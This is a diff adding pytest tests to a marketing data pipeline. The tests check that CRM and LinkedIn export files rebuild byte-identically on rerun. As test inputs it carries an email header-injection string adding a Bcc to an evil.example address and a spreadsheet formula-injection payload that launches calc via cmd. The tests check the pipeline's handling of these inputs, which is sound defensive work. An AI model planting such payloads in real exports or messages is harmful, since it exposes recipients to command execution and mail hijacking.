@@ -13,15 +13,23 @@
 from __future__ import annotations
 
 import asyncio
+import json
 import socket
+from datetime import datetime
 
 import dagster as dg
+import pandas as pd
 import pytest
 from aiosmtpd.controller import Controller
 
 from blueprint_pipeline.defs.journeys.delivery import journey_deliveries
 from blueprint_pipeline.journeys.delivery import MAX_ATTEMPTS, MailboxSender, SmtpSender, deliver
 from blueprint_pipeline.resources import BlueprintConfigResource, DeliveryResource, LandingResource
+from blueprint_pipeline_tests.activation.test_crm import _build as _crm_build
+from blueprint_pipeline_tests.activation.test_crm import _rows as _crm_rows
+from blueprint_pipeline_tests.activation.test_crm import _tables as _crm_tables
+from blueprint_pipeline_tests.activation.test_linkedin import CONFIG as LINKEDIN_CONFIG
+from blueprint_pipeline_tests.activation.test_linkedin import _build as _linkedin_build
 from blueprint_pipeline_tests.journeys.test_delivery import _message, _outbox
 
 INJECTED = "Orion Labs\r\nBcc: a@evil.example"
@@ -126,3 +134,54 @@ def test_the_asset_reports_what_was_not_sent_and_the_next_build_goes_on(warehous
         )
         assert metadata["sent"].value == (1 if attempt == 1 else 0)
     assert _statuses(warehouse)["<m001@example.com>"][:2] == ("pending", 2)
+
+
+def _files(folder) -> dict[str, bytes]:
+    """Every file under `folder` (hidden leftovers included), by relative path."""
+    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+def test_a_rerun_at_the_same_as_of_writes_the_same_crm_files(warehouse, tmp_path):
+    """Build at T1, then at T2 with a journey's field update: the delta holds G2, the Account file
+    A1's field. Run again at T2 (the recovery the docs describe): before, account_updates.csv was
+    deleted for good and the delta was header-only. Now every file is byte-identical; a build at T3
+    is against T2 (nothing changed, the field update not written again)."""
+    _crm_build(warehouse, tmp_path, _crm_tables("Engaged", datetime(2026, 3, 1)), "2026-03-02T00:00:00")
+    with warehouse.transaction() as session:
+        session.replace_table(
+            "crm_field_updates",
+            pd.DataFrame({"step_key": ["k1"], "account_id": ["A1"], "field": ["Journey_Stage__c"],
+                          "value": ["=cmd|' /C calc'!A0"], "journey_id": ["j"],
+                          "happened_at": [datetime(2026, 3, 2, 12)]}),
+        )  # fmt: skip
+    moved = _crm_tables("Marketing Qualified", datetime(2026, 3, 2, 6))
+    second = _crm_build(warehouse, tmp_path, moved, "2026-03-03T00:00:00")
+    written = _files(second)
+    assert written["account_updates.csv"] == b"Id,Journey_Stage__c\nA1,=cmd|' /C calc'!A0\n"  # raw: Bulk API
+    assert [r[0] for r in _crm_rows(second / "buying_groups_delta.csv")[1:]] == ["G2"]
+    assert json.loads(written["manifest.json"])["formula_like_values"] == 1
+
+    again = _crm_build(warehouse, tmp_path, moved, "2026-03-03T00:00:00")
+    assert _files(again) == written
+    assert sorted(p.name for p in again.parent.iterdir()) == ["20260302T000000", "20260303T000000"]
+
+    third = _crm_build(warehouse, tmp_path, moved, "2026-03-04T00:00:00")
+    assert len(_crm_rows(third / "buying_groups_delta.csv")) == 1
+    assert not (third / "account_updates.csv").exists()
+
+
+def test_a_rerun_at_the_same_as_of_writes_the_same_linkedin_files(warehouse, tmp_path):
+    """Build 2 of the LinkedIn example (A2 leaves, A4 joins) run twice: before, the second run's
+    adds.csv and removes.csv were header-only; now every file is the same."""
+    (tmp_path / "activation.yaml").write_text(LINKEDIN_CONFIG)
+    _linkedin_build(warehouse, tmp_path, ["A1", "A2", "A3"], "2026-03-01T00:00:00")
+    _linkedin_build(warehouse, tmp_path, ["A1", "A3", "A4"], "2026-03-02T00:00:00")
+    out = tmp_path / "out" / "linkedin"
+    written = _files(out)
+    assert written["targets/20260302T000000/removes.csv"] == b"account_id\nA2\n"
+    _linkedin_build(warehouse, tmp_path, ["A1", "A3", "A4"], "2026-03-02T00:00:00")
+    assert _files(out) == written
+    as_handed_out = warehouse.fetchall(
+        "select activated_at, key from activation_members where list_name = 'targets' order by 1, 2"
+    )
+    assert [k for _, k in as_handed_out] == ["A1", "A2", "A3", "A1", "A3", "A4"], "T1 kept: T2's baseline"
